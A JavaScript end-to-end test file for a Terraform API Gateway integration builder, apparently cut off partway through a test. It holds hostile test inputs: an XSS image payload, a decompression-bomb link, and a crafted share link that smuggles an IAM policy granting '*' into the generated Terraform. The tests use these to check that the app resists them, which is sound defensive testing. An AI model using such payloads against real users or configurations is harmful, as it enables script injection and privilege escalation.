// End-to-end tests of the release build (dist/) in Debian's Chromium, served on
// 127.0.0.1 with the same strict Content-Security-Policy that index.html ships.
//
//   trunk build --release && node --test tests/e2e/
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { readFile, mkdir } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { join, dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { CSP } from './serve.mjs';
import { axeViolations, paste, serveAndLaunch } from './helpers.mjs';

const root = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
// DIST: another build's bundle (scripts/test runs this file on the whole-module build too).
const dist = resolve(process.env.DIST ?? join(root, 'dist'));
let base, browser, stop;

before(async () => {
  assert.ok(existsSync(join(dist, 'index.html')), 'dist/ is missing: run `trunk build --release` first');
  ({ base, browser, stop } = await serveAndLaunch(dist));
});

after(() => stop?.());

/** A fresh page with console errors, page errors and CSP violations recorded. */
async function open(url = base, { context, viewport } = {}) {
  const ctx = context ?? (await browser.newContext({ viewport: viewport ?? { width: 1400, height: 1000 } }));
  const page = await ctx.newPage();
  const problems = [];
  page.on('console', (m) => {
    const text = m.text();
    // Chromium notes that it ignores `integrity` on preload links; not an error of ours.
    if (m.type() === 'error' || /Content Security Policy/i.test(text)) problems.push(`console ${m.type()}: ${text}`);
  });
  page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
  await page.goto(url);
  await page.waitForSelector('html[data-ready="true"]');
  await page.waitForSelector('#out-resource');
  return { page, ctx, problems };
}

const fixture = (name) => readFile(join(root, 'crates', 'core', 'tests', 'fixtures', 'docs', `${name}.tf`), 'utf8');
const integrationText = (doc) => doc.slice(doc.indexOf('resource "aws_apigatewayv2_integration"'));
const output = (page) => page.locator('#out-resource').innerText();
const field = (page, name) => page.getByLabel(name, { exact: true });
/** The accessible label of the focused element, through shadow roots. */
const activeLabel = (page) => page.evaluate(() => {
  let el = document.activeElement;
  while (el?.shadowRoot?.activeElement) el = el.shadowRoot.activeElement;
  return el?.getAttribute('aria-label');
});


test('loads under the strict CSP with no console errors', async () => {
  const { page, ctx, problems } = await open();
  const meta = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.equal(meta, CSP);
  assert.match(await output(page), /^resource "aws_apigatewayv2_integration" "example" \{/);
  // An inline script is refused by the policy.
  const blocked = await page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
    const s = document.createElement('script');
    s.textContent = 'window.__inline = true';
    document.body.appendChild(s);
    setTimeout(() => resolve(window.__inline ? 'ran' : 'no event'), 1000);
  }));
  assert.match(blocked, /script-src/);
  // Each file of the first load is fetched once: the builder's stylesheet, which the page
  // preloads, is the preloaded copy when the form's shadow root links it.
  const entries = await page.evaluate(() => performance.getEntriesByType('resource').map((e) => ({ file: new URL(e.name).pathname.split('/').pop(), start: e.startTime, end: e.responseEnd })));
  const fetched = entries.map((e) => e.file);
  assert.equal(fetched.filter((f) => f === 'apigw-integration-builder.css').length, 1, fetched.join(' '));
  assert.deepEqual(fetched.filter((f, i) => fetched.indexOf(f) !== i), [], 'no file twice');
  // Preloaded, it is asked for with the other files, before the wasm is in (without the
  // preload, only once the form mounts).
  const at = (file) => entries.find((e) => e.file === file);
  assert.ok(at('apigw-integration-builder.css').start < at('apigw-integration-web_bg.wasm').end, JSON.stringify(entries));
  assert.deepEqual(problems.filter((p) => !/__inline|inline script/i.test(p)), []);
  await ctx.close();
});

test('the parser is not part of the first load: it loads on the first paste, and a failed load says so and can be retried', async () => {
  const { page, ctx, problems } = await open();
  const readerLoads = () => page.evaluate(() => performance.getEntriesByType('resource').filter((e) => /apigw-integration-reader/.test(e.name) && e.responseStatus === 200).length);
  assert.match(await output(page), /^resource "aws_apigatewayv2_integration"/);
  assert.equal(await readerLoads(), 0, 'nothing of the reader module before a paste');
  // The server is unreachable at first (for the prefetch when the box gets focus, and for
  // the click), then back.
  let reachable = false;
  await page.route('**/apigw-integration-reader*', (route) => (reachable ? route.continue() : route.abort('connectionrefused')));
  const text = `${await fixture('basic')}`;
  await paste(page, text);
  assert.match(await page.getByTestId('paste-summary').innerText(), /^Nothing was added: the reader module did not load \(.+\)\. Your text is still in the box; try again\.$/);
  assert.equal(await page.locator('#paste-hcl').inputValue(), text, 'the pasted text is kept');
  assert.equal(await page.getByTestId('ws-entry').count(), 1);
  // The next attempt loads it.
  reachable = true;
  await paste(page, text);
  assert.match(await page.getByTestId('paste-summary').innerText(), /^Took 1 integration/);
  assert.equal(await output(page), integrationText(await fixture('basic')));
  assert.equal(await readerLoads(), 2, 'the reader module and its wasm');
  assert.deepEqual(problems.filter((p) => !/apigw-integration-reader|Failed to load resource|Failed to fetch dynamically imported module/.test(p)), []);
  await ctx.close();
});

test('mount() with a template on a page that has not loaded the parser: read when it loads, or a notice if it cannot', async () => {
  const { page, ctx, problems } = await open();
  const hcl = 'resource "aws_apigatewayv2_integration" "from_mount" {\n  api_id           = aws_apigatewayv2_api.ws.id\n  integration_type = "MOCK"\n\n  # Kept.\n  description = "t"\n}\n';
  const mountWith = (template) => page.evaluate((template) => {
    const el = document.createElement('div');
    el.className = 'mounted';
    document.body.append(el);
    window.__events = [];
    window.__handle = window.wasmBindings.mount(el, { template, protocol: 'websocket', onChange: (d) => window.__events.push(d.config.name) });
  }, template);
  const mounted = page.locator('div.mounted');
  // Refused at first: the instance starts blank and says why.
  let reachable = false;
  await page.route('**/apigw-integration-reader*', (route) => (reachable ? route.continue() : route.abort('connectionrefused')));
  await mountWith(hcl);
  assert.match(await mounted.getByRole('alert').innerText(), /The starting HCL could not be read: the reader module did not load/);
  assert.match(await mounted.locator('#out-resource').innerText(), /"example"/);
  await page.evaluate(() => window.__handle.unmount());
  // Then it loads: the instance shows the template (layout kept), and says so with a change event.
  reachable = true;
  await mountWith(hcl);
  await mounted.locator('#out-resource', { hasText: 'from_mount' }).waitFor();
  assert.equal(await mounted.locator('#out-resource').innerText(), hcl);
  assert.deepEqual(await page.evaluate(() => window.__events), ['from_mount']);
  assert.equal(await page.evaluate(() => window.__handle.getConfig().name), 'from_mount');
  assert.deepEqual(problems.filter((p) => !/apigw-integration-reader|Failed to load resource|Failed to fetch dynamically imported module/.test(p)), []);
  await ctx.close();
});

test('an error appears as you type and disappears when fixed', async () => {
  const { page, ctx, problems } = await open();
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.getByRole('radio', { name: 'HTTP', exact: true }).check();
  await page.getByRole('button', { name: 'All arguments' }).click();
  // A blank form is not red: missing arguments are listed as still to fill in.
  assert.equal(await field(page, 'api_id').getAttribute('aria-invalid'), 'false');
  assert.match(await page.getByTestId('counts').innerText(), /^0 errors, 0 warnings · 2 to fill in/);
  await page.getByTestId('pending').getByRole('button', { name: 'integration_type' }).click();
  assert.equal(await activeLabel(page), 'integration_type');
  const timeout = field(page, 'timeout_milliseconds');
  await timeout.fill('45000');
  await assert.doesNotReject(page.waitForSelector('input[aria-label="timeout_milliseconds"][aria-invalid="true"]'));
  const described = await timeout.getAttribute('aria-describedby');
  const msg = await page.locator(`#${described.split(' ')[0]}`).innerText();
  assert.match(msg, /R-TMO-1/);
  assert.match(msg, /50 to 30000/);
  assert.match(await page.locator('.summary-list').innerText(), /timeout_milliseconds/);
  // A diagnostic's code opens its entry in the rules reference.
  await page.locator('.summary-list a.code', { hasText: 'R-TMO-1' }).click();
  assert.equal(await page.locator('details#rules').getAttribute('open'), '');
  assert.match(await page.locator('#rule-R-TMO-1').innerText(), /50–29000 for WebSocket APIs/);
  assert.match(await page.getByTestId('output-status').innerText(), /error/);
  assert.match(await output(page), /timeout_milliseconds = 45000/);
  await timeout.fill('29000');
  await page.waitForSelector('input[aria-label="timeout_milliseconds"][aria-invalid="false"]');
  assert.doesNotMatch(await page.locator('.summary').innerText(), /R-TMO-1/);
  // Clicking a summary entry focuses its field.
  await field(page, 'api_id').fill('');
  await field(page, 'api_id').blur();
  await page.locator('.summary-list button', { hasText: 'api_id' }).click();
  assert.equal(await activeLabel(page), 'api_id');
  // References are detected as you type and emitted bare.
  await field(page, 'api_id').fill('aws_apigatewayv2_api.main.id');
  assert.match(await output(page), /api_id += aws_apigatewayv2_api\.main\.id\n/);
  assert.equal(await page.getByRole('button', { name: 'ref: api_id is a Terraform reference' }).getAttribute('aria-pressed'), 'true');
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('the rules reference draws its rows when first opened, with texts from the reader module: by keyboard, or by a rule link; a failed load says so and opening again retries', async () => {
  const { page, problems, ctx } = await open();
  const rows = page.locator('details#rules tr[data-rule]');
  const readerLoads = () => page.evaluate(() => performance.getEntriesByType('resource').filter((e) => /apigw-integration-reader/.test(e.name) && e.responseStatus === 200).length);
  // Not on the first load: about 900 elements, and texts that the form's wasm does not carry.
  assert.equal(await rows.count(), 0);
  assert.equal(await readerLoads(), 0);
  // The reader module is unreachable at first.
  let reachable = false;
  await page.route('**/apigw-integration-reader*', (route) => (reachable ? route.continue() : route.abort('connectionrefused')));
  await page.locator('details#rules summary').focus();
  await page.keyboard.press('Enter');
  assert.equal(await page.locator('details#rules').getAttribute('open'), '');
  assert.match(
    await page.locator('details#rules [role="alert"]').innerText(),
    /^The rules reference could not be loaded: the reader module did not load \(.+\)\. Close it and open it again to try again\.$/,
  );
  assert.equal(await rows.count(), 0);
  // Closed and opened again, it tries again.
  reachable = true;
  await page.keyboard.press('Enter');
  await page.keyboard.press('Enter');
  await page.locator('#rule-R-TMO-1').waitFor();
  assert.equal(await page.locator('details#rules table').getAttribute('aria-busy'), 'false');
  const total = await page.evaluate(async () => (await window.wasmBindings.rules()).length);
  assert.equal(await rows.count(), total);
  assert.match(await page.locator('#rule-R-TMO-1').innerText(), /50–29000 for WebSocket APIs/);
  assert.equal(await page.locator('#rule-R-TMO-1 a').getAttribute('href'), await page.evaluate(async () => (await window.wasmBindings.rules()).find((r) => r.code === 'R-TMO-1').source));
  assert.equal(await readerLoads(), 2, 'the reader module and its wasm, once');
  // Closed and opened again, the rows stay.
  await page.keyboard.press('Enter');
  await page.keyboard.press('Enter');
  assert.equal(await rows.count(), total);
  // A page address naming a rule opens the reference at it, with the row focused; an unknown
  // code opens the reference and nothing else.
  const linked = await open(`${base}#rule-R-TMO-1`, { context: ctx });
  await linked.page.waitForFunction(() => [...document.querySelectorAll('*')].find((e) => e.shadowRoot)?.shadowRoot.activeElement?.id === 'rule-R-TMO-1');
  assert.equal(await linked.page.locator('details#rules').getAttribute('open'), '');
  const odd = await open(`${base}#rule-"]%20x`, { context: ctx });
  await odd.page.waitForFunction(() => [...document.querySelectorAll('*')].find((e) => e.shadowRoot)?.shadowRoot.querySelector('details#rules')?.open);
  assert.deepEqual([...problems.filter((p) => !/apigw-integration-reader|Failed to load resource|Failed to fetch dynamically imported module/.test(p)), ...linked.problems, ...odd.problems], []);
  await ctx.close();
});

test('a diagnostic with a safe fix has a Fix button that applies it', async () => {
  const { page, ctx, problems } = await open();
  await paste(page, [
    'resource "aws_apigatewayv2_api" "a" {\n  protocol_type = "HTTP"\n}',
    'resource "aws_apigatewayv2_integration" "f" {',
    '  api_id                 = aws_apigatewayv2_api.a.id',
    '  integration_type       = "AWS_PROXY"',
    '  integration_uri        = aws_lambda_function.f.invoke_arn',
    '  integration_method     = "GET" # from the console',
    '  payload_format_version = "2.0"',
    '}',
  ].join('\n') + '\n');
  const fix = page.getByRole('button', { name: 'Fix: Set integration_method to POST (R-METH-2)' }).first();
  await fix.waitFor();
  await fix.press('Enter');
  await page.waitForFunction(() => !document.querySelector('.summary')?.textContent.includes('R-METH-2'));
  assert.match(await output(page), /integration_method += "POST" # from the console\n/);
  assert.equal(await page.getByRole('button', { name: /^Fix: .*\(R-METH-2\)$/ }).count(), 0);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('the builder outlives a garbage-collected handle (the page keeps no reference to it)', async () => {
  const { page, ctx, problems } = await open();
  const cdp = await ctx.newCDPSession(page);
  for (let k = 0; k < 3; k++) {
    await cdp.send('HeapProfiler.collectGarbage');
    await page.waitForTimeout(100);
  }
  await page.getByRole('button', { name: 'Basic (MOCK)', exact: true }).click();
  await field(page, 'description').fill('still here');
  assert.match(await output(page), /description += "still here"/);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('each documented example loads and renders byte for byte', async () => {
  const { page, ctx, problems } = await open();
  for (const [label, file] of [['Basic (MOCK)', 'basic'], ['Lambda', 'lambda'], ['AWS service (SQS)', 'aws_service_sqs'], ['Private (VPC link)', 'private']]) {
    await page.getByRole('button', { name: label, exact: true }).click();
    assert.equal(await output(page), integrationText(await fixture(file)), label);
    assert.match(await page.getByTestId('output-status').innerText(), /no errors/, label);
  }
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('an edit redraws the output lines it changed and no other; the block reads, copies and measures as its text', async () => {
  const { page, ctx, problems } = await open();
  await page.getByRole('button', { name: 'Lambda', exact: true }).click();
  const pre = page.locator('#out-resource');
  await field(page, 'description').fill('first');
  await pre.filter({ hasText: '"first"' }).waitFor();
  // Every line drawn now is marked; the next edit changes one line.
  const lines = await pre.evaluate((el) => [...el.querySelectorAll('code > span')].map((s, k) => { s.dataset.mark = String(k); return s.textContent; }));
  assert.ok(lines.length > 5, `${lines.length} lines`);
  await field(page, 'description').fill('second');
  await pre.filter({ hasText: '"second"' }).waitFor();
  const after = await pre.evaluate((el) => [...el.querySelectorAll('code > span')].map((s) => ({ text: s.textContent, mark: s.dataset.mark ?? null })));
  assert.equal(after.length, lines.length);
  const redrawn = after.filter((l) => l.mark === null);
  assert.deepEqual(redrawn.map((l) => l.text), [lines.find((l) => l.includes('"first"')).replace('first', 'second')]);
  for (const [k, l] of after.entries()) if (l.mark !== null) assert.equal(l.mark, String(k), `line ${k} kept its place`);
  // What it shows: the text exactly (textContent and innerText), one line per line of text,
  // as wide and as tall as the same text in one text node in the same place.
  const shown = await pre.evaluate((el) => {
    const plain = el.cloneNode(false);
    plain.removeAttribute('id');
    plain.textContent = el.textContent;
    el.after(plain);
    const sel = getSelection();
    sel.selectAllChildren(el);
    const copied = sel.toString();
    sel.removeAllRanges();
    const out = { text: el.textContent, inner: el.innerText, copied, size: [el.scrollWidth, el.scrollHeight], plain: [plain.scrollWidth, plain.scrollHeight] };
    plain.remove();
    return out;
  });
  assert.equal(shown.inner, shown.text);
  assert.equal(shown.copied, shown.text.replace(/\n$/, ''));
  assert.deepEqual(shown.size, shown.plain);
  assert.ok(shown.size[1] > 100, `height ${shown.size[1]}`);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('fields that do not apply say why: an empty one is disabled, a written one stays in the output, flagged, with a Remove that can be undone', async () => {
  const { page, ctx } = await open();
  await page.getByRole('button', { name: 'Lambda', exact: true }).click();
  assert.match(await output(page), /passthrough_behavior/);
  await page.getByRole('radio', { name: 'HTTP', exact: true }).check();
  // Written: kept in the output as written, editable, the reason and the rule said.
  assert.equal(await field(page, 'passthrough_behavior').isDisabled(), false);
  assert.match(await page.locator('[data-field="passthrough_behavior"] .reason').innerText(), /only for WebSocket[\s\S]*stays in the output as written/);
  assert.match(await output(page), /passthrough_behavior += "WHEN_NO_MATCH"/);
  assert.match(await page.locator('.summary').innerText(), /R-WSO-2b/);
  // Empty: disabled.
  assert.equal(await field(page, 'template_selection_expression').isDisabled(), true);
  await page.getByRole('button', { name: 'Remove passthrough_behavior', exact: true }).click();
  assert.doesNotMatch(await output(page), /passthrough_behavior/);
  assert.equal(await field(page, 'passthrough_behavior').isDisabled(), true);
  await page.getByRole('button', { name: 'Undo', exact: true }).click();
  await page.getByRole('radio', { name: 'WEBSOCKET', exact: true }).check();
  assert.match(await output(page), /passthrough_behavior += "WHEN_NO_MATCH"/);
  await ctx.close();
});

test('pasted HCL fills the form; parse problems show their line', async () => {
  const { page, ctx, problems } = await open();
  const pasted = `${await fixture('basic')}\n${await fixture('import')}`;
  await paste(page, pasted);
  assert.equal(await output(page), integrationText(await fixture('basic')));
  assert.equal(await page.locator('#out-import').innerText(), await fixture('import'));
  assert.equal(await page.locator('#out-command').innerText(), 'terraform import aws_apigatewayv2_integration.example aabbccddee/1122334');
  await paste(page, 'resource "aws_apigatewayv2_integration" "x" {\n  api_id = \n}\n');
  assert.match(await page.locator('.paste .msgs').innerText(), /line 2, column 12: R-HCL-5/);
  assert.equal(await output(page), integrationText(await fixture('basic')), 'the form keeps the last good state');
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('copy buttons put the output on the clipboard', async () => {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: base.slice(0, -1) });
  const { page, problems } = await open(base, { context });
  await page.getByRole('button', { name: 'Private (VPC link)', exact: true }).click();
  await page.getByRole('button', { name: 'Copy resource' }).click();
  await page.getByRole('button', { name: 'Copy resource' }).filter({ hasText: 'Copied' }).waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), integrationText(await fixture('private')));
  // The whole workspace's file copies as it is now while its text is not drawn (closed).
  await page.getByRole('button', { name: /^Duplicate / }).first().click();
  await field(page, 'description').fill('Edited while the file is closed');
  await page.getByRole('button', { name: 'Copy workspace' }).click();
  await page.getByRole('button', { name: 'Copy workspace' }).filter({ hasText: 'Copied' }).waitFor();
  assert.equal(await page.locator('#out-file').count(), 0);
  const file = await page.evaluate(() => navigator.clipboard.readText());
  assert.equal((file.match(/resource "aws_apigatewayv2_integration"/g) ?? []).length, 2);
  assert.equal((file.match(/Edited while the file is closed/g) ?? []).length, 1);
  assert.deepEqual(problems, []);
  await context.close();
});

test('state survives a reload, and a share link carries it', async () => {
  const { page, ctx, problems } = await open();
  await page.getByRole('button', { name: 'AWS service (SQS)', exact: true }).click();
  await field(page, 'description').fill('Restored after reload: ${not_live} "quoted"');
  const before = await output(page);
  assert.match(before, /\$\$\{not_live\} \\"quoted\\"/);
  await page.reload();
  await page.waitForSelector('html[data-ready="true"]');
  assert.equal(await output(page), before);
  await page.getByRole('button', { name: 'Copy share link' }).click();
  const link = await page.getByLabel('Share link').inputValue();
  assert.match(link, /^http:\/\/127\.0\.0\.1:\d+\/#w=/);
  assert.doesNotMatch(page.url(), /#w=/, 'the page address is left alone');
  const fresh = await open(link);
  assert.equal(await output(fresh.page), before);
  // The link is consumed: edits after opening it survive a reload.
  assert.doesNotMatch(fresh.page.url(), /#w=/);
  await field(fresh.page, 'description').fill('Edited after opening the link');
  await fresh.page.reload();
  await fresh.page.waitForSelector('html[data-ready="true"]');
  assert.match(await output(fresh.page), /Edited after opening the link/);
  assert.deepEqual([...problems, ...fresh.problems], []);
  await fresh.ctx.close();
  await ctx.close();
});

test('a browser that cannot compress gets an uncompressed link that opens the same', async () => {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  await context.addInitScript(() => { delete window.CompressionStream; });
  const { page, ctx, problems } = await open(base, { context });
  await page.getByRole('button', { name: 'AWS service (SQS)', exact: true }).click();
  const before = await output(page);
  await page.getByRole('button', { name: 'Copy share link' }).click();
  const link = await page.getByLabel('Share link').inputValue();
  assert.match(link, /^http:\/\/127\.0\.0\.1:\d+\/#s=/);
  const fresh = await open(link);
  assert.equal(await output(fresh.page), before);
  assert.deepEqual([...problems, ...fresh.problems], []);
  await fresh.ctx.close();
  await ctx.close();
});

test('a corrupt link or saved state gives a notice and a clean form', async () => {
  const { page, ctx, problems } = await open(`${base}#s=!!!`);
  assert.match(await page.getByRole('alert').filter({ hasText: 'could not be opened' }).innerText(), /link/);
  assert.match(await output(page), /resource "aws_apigatewayv2_integration" "example"/);
  await page.evaluate(() => localStorage.setItem('apigw-integration-builder/state', '{"v": 99, "model": {}}'));
  await page.goto(base);
  await page.waitForSelector('html[data-ready="true"]');
  assert.match(await page.locator('.notice').innerText(), /could not be read: it was saved by a newer version of the builder \(format 99/);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('a compressed link is inflated by the browser: corrupt, too large or not inflatable, it gives a notice', async () => {
  // Raw DEFLATE, as the page's own links (`#w=`); node:zlib makes what the browser would.
  const { deflateRawSync } = await import('node:zlib');
  const w = (bytes) => `${base}#w=${Buffer.from(bytes).toString('base64url')}`;
  const json = JSON.stringify({ v: 2, workspace: { items: [{ name: 'from_link', protocol: 'HTTP', integration_type: 'MOCK' }], selected: 0 } });
  const good = await open(w(deflateRawSync(Buffer.from(json))));
  assert.match(await output(good.page), /resource "aws_apigatewayv2_integration" "from_link"/);
  assert.deepEqual(good.problems, []);
  await good.ctx.close();
  const cases = [
    ['corrupt', w([0xff, 0xff, 0xff, 0xff]), /the link is damaged: it does not decompress \(or holds more than 4 MiB\)/],
    // 5 MiB of spaces in 5 KB: refused at the 4 MiB cap, not inflated whole.
    ['a bomb', w(deflateRawSync(Buffer.alloc(5 << 20, 32), { level: 9 })), /does not decompress \(or holds more than 4 MiB\)/],
    ['not text', w(deflateRawSync(Buffer.from([0xff, 0xfe]))), /it does not decode to text/],
  ];
  for (const [what, link, message] of cases) {
    const { page, ctx, problems } = await open(link);
    assert.match(await page.getByRole('alert').filter({ hasText: 'could not be opened' }).innerText(), message, what);
    assert.match(await output(page), /resource "aws_apigatewayv2_integration" "example"/, what);
    assert.deepEqual(problems, [], what);
    await ctx.close();
  }
  // A browser without DecompressionStream cannot open it, and says so the same way.
  const context = await browser.newContext();
  await context.addInitScript(() => { delete window.DecompressionStream; });
  const old = await open(w(deflateRawSync(Buffer.from(json))), { context });
  assert.match(await old.page.getByRole('alert').filter({ hasText: 'could not be opened' }).innerText(), /does not decompress/);
  assert.deepEqual(old.problems, []);
  await context.close();
});

test('user text is never interpreted as HTML', async () => {
  const { page, ctx } = await open();
  await page.getByRole('button', { name: 'All arguments' }).click();
  await field(page, 'description').fill('<img src=x id=pwned onerror="window.__xss=1">');
  await paste(page, '<b id="pwned2">x</b><img src=x id=pwned3 onerror="window.__xss=2">');
  assert.match(await output(page), /description *= "<img src=x id=pwned onerror=\\"window.__xss=1\\">"/);
  assert.equal(await page.locator('#pwned, #pwned2, #pwned3').count(), 0);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  await ctx.close();
});

test('the JS API validates and renders', async () => {
  const { page, ctx } = await open();
  const result = await page.evaluate(async () => {
    const config = { name: 'orders', protocol: 'HTTP', api_id: { expr: 'aws_apigatewayv2_api.a.id' }, integration_type: 'MOCK' };
    return { diags: window.wasmBindings.validate(config), out: window.wasmBindings.render(config), rules: (await window.wasmBindings.rules()).length };
  });
  assert.ok(result.diags.some((d) => d.code === 'R-TYPE-1' && d.severity === 'error' && d.path === 'integration_type'));
  assert.match(result.out.resource, /integration_type = "MOCK"/);
  assert.ok(result.rules > 80);
  await ctx.close();
});

test('works on a narrow screen and in the dark theme; axe (every rule) finds nothing', async () => {
  const axe = await readFile(join(root, 'tests', 'e2e', 'node_modules', 'axe-core', 'axe.min.js'), 'utf8');
  for (const [name, viewport, scheme] of [['wide-light', { width: 1400, height: 1000 }, 'light'], ['narrow-dark', { width: 390, height: 844 }, 'dark']]) {
    const context = await browser.newContext({ viewport, colorScheme: scheme });
    const { page, problems } = await open(base, { context });
    await page.getByRole('button', { name: 'Private (VPC link)', exact: true }).click();
    await field(page, 'timeout_milliseconds').fill('45000');
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `${name}: the page scrolls sideways by ${overflow}px`);
    assert.deepEqual(problems, [], name);
    if (name === 'wide-light') {
      await page.evaluate(() => window.scrollTo(0, 0));
      await mkdir(join(root, 'docs'), { recursive: true });
      await page.screenshot({ path: join(root, 'docs', 'screenshot.png'), fullPage: false });
    }
    // The rules reference's rows are drawn when it is opened: audit them too.
    await page.locator('details#rules summary').click();
    await page.locator('#rule-R-TMO-1').waitFor();
    // And the whole workspace's file, which is there with two integrations and drawn open.
    await page.getByRole('button', { name: /^Duplicate / }).first().click();
    await page.getByText('Show the whole file').click();
    await page.locator('#out-file').waitFor();
    assert.deepEqual(await axeViolations(page, axe), [], name);
    await context.close();
  }
});

test('subtype parameters, map rows, response blocks, import forms and download', async () => {
  const { page, ctx, problems } = await open();
  await page.getByRole('button', { name: 'Clear' }).click();
  await page.getByRole('radio', { name: 'HTTP', exact: true }).check();
  await page.getByRole('button', { name: 'All arguments' }).click();
  await field(page, 'api_id').fill('aws_apigatewayv2_api.main.id');
  await page.getByLabel('integration_type', { exact: true }).selectOption('AWS_PROXY');
  // A subtype shows its parameters as named fields; a missing one is reported beside it.
  await page.getByLabel('integration_subtype', { exact: true }).selectOption('SQS-SendMessage');
  await field(page, 'request_parameters QueueUrl').fill('aws_sqs_queue.orders.url');
  const body = field(page, 'request_parameters MessageBody');
  // Not red before the reader has been there; red once they leave it empty.
  assert.equal(await body.getAttribute('aria-invalid'), 'false');
  await body.focus();
  await body.blur();
  assert.equal(await body.getAttribute('aria-invalid'), 'true');
  assert.match(await page.locator('.side-pane').innerText(), /R-SUB-2/);
  await body.fill('$request.body');
  assert.equal(await body.getAttribute('aria-invalid'), 'false');
  await field(page, 'credentials_arn').fill('aws_iam_role.sqs.arn');
  assert.match(await output(page), /request_parameters = \{\n    "QueueUrl"    = aws_sqs_queue\.orders\.url\n    "MessageBody" = "\$request\.body"\n  \}/);
  assert.match(await page.getByTestId('output-status').innerText(), /no errors/);

  // Map rows on an HTTP proxy integration, and a response_parameters block.
  await page.getByRole('button', { name: 'Private (VPC link)', exact: true }).click();
  await page.getByRole('button', { name: 'Add request_parameters entry' }).click();
  await field(page, 'request_parameters key 3').fill('append:header.x-trace');
  await field(page, 'request_parameters value 3').fill('$context.requestId');
  assert.match(await output(page), /"append:header\.x-trace"\s+= "\$context\.requestId"/);
  await page.getByRole('button', { name: 'Remove request_parameters entry 3' }).click();
  assert.doesNotMatch(await output(page), /x-trace/);
  await page.getByRole('button', { name: 'Add response_parameters block' }).click();
  await field(page, 'response_parameters 3 status_code').fill('404');
  await page.getByRole('group', { name: 'response_parameters block 3' }).getByRole('button', { name: 'Add response_parameters 3 mappings entry' }).click();
  await field(page, 'response_parameters 3 mappings key 1').fill('overwrite:statuscode');
  await field(page, 'response_parameters 3 mappings value 1').fill('410');
  assert.match(await output(page), /response_parameters \{\n    status_code = 404\n    mappings = \{\n      "overwrite:statuscode" = "410"\n    \}\n  \}\n\}\n$/);

  // The import block in both forms, and the command.
  await page.getByLabel('Import an existing integration (import block)').check();
  await page.getByLabel('API id (import.id)').fill('aabbccddee');
  await page.getByLabel('Integration id (import.id)').fill('1122334');
  assert.equal(await page.locator('#out-import').innerText(), 'import {\n  to = aws_apigatewayv2_integration.example\n  id = "aabbccddee/1122334"\n}\n');
  await page.getByLabel('import block form').selectOption('identity');
  assert.equal(await page.locator('#out-import').innerText(), 'import {\n  to = aws_apigatewayv2_integration.example\n  identity = {\n    api_id = "aabbccddee"\n    id     = "1122334"\n  }\n}\n');
  assert.equal(await page.locator('#out-command').innerText(), 'terraform import aws_apigatewayv2_integration.example aabbccddee/1122334');

  // Download .tf gives the resource and the import block.
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Download .tf' }).click()]);
  assert.equal(download.suggestedFilename(), 'example.tf');
  const saved = await readFile(await download.path(), 'utf8');
  assert.equal(saved, `${await output(page)}\n${await page.locator('#out-import').innerText()}`);
  assert.deepEqual(problems, []);
  await ctx.close();
});

test('without the Clipboard API, copying falls back and says so', async () => {
  const context = await browser.newContext({ viewport: { width: 1400, height: 1000 } });
  await context.addInitScript(() => Object.defineProperty(Navigator.prototype, 'clipboard', { get: () => undefined }));
  const { page, problems } = await open(base, { context });
  assert.equal(await page.evaluate(() => navigator.clipboard), undefined);
  await page.getByRole('button', { name: 'Copy resource' }).click();
  // execCommand('copy') on a hidden textarea, or a notice to copy by hand: either way the
  // user is told what happened, and the page keeps working.
  const label = await page.getByRole('button', { name: 'Copy resource' }).innerText();
  assert.ok(['Copied', 'Select and copy'].includes(label), label);
  if (label === 'Select and copy') assert.match(await page.locator('.notice').innerText(), /clipboard is not available/);
  assert.equal(await page.locator('textarea.offscreen').count(), 0, 'the helper textarea is removed');
  assert.deepEqual(problems, []);
  await context.close();
});

/** A share link (the page's own `#s=` format) carrying `model`. */
function linkTo(model) {
  const json = JSON.stringify({ v: 1, model });
  return `${base}#s=${Buffer.from(json, 'utf8').toString('base64url')}`;
}

const PWN = 'resource "aws_iam_user_policy" "pwn" {\n  user   = "ci"\n  policy = "*"\n}';

test('a crafted link cannot add a resource: the output is withheld and the page says why', async () => {
  const model = {
    name: 'example',
    protocol: 'WEBSOCKET',
    api_id: { expr: 'aws_apigatewayv2_api.example.id' },
    integration_type: 'MOCK',
    verbatim: [{ name: 'lifecycle', text: `lifecycle {}\n}\n\n${PWN}\n\nresource "aws_apigatewayv2_integration" "x" {` }],
  };
  const { page, ctx, problems } = await open(linkTo(model));
  // The page warns before anything is copied, and shows the hidden item in full.
  assert.match(await page.locator('.notice').innerText(), /adds content the form does not show: `lifecycle`/);
  assert.match(await page.getByTestId('kept').innerText(), /aws_iam_user_policy/);
  assert.match(await page.getByTestId('output-withheld').innerText(), /Output withheld/);
  assert.doesNotMatch(await output(page), /aws_iam_user_policy/);
  assert.equal(await page.getByRole('button', { name: 'Copy resource' }).isDisabled(), true);
  assert.equal(await page.getByRole('button', { name: 'Download .tf' }).isDisabled(), true);
  assert.match(await page.locator('.summary-list').innerText(), /R-HCL-10/);
  // Removing the item brings the output back, without the injected resource.
  await page.getByRole('button', { name: 'Remove kept item lifecycle' }).click();
  await page.getByTestId('output-withheld').waitFor({ state: 'detached' });
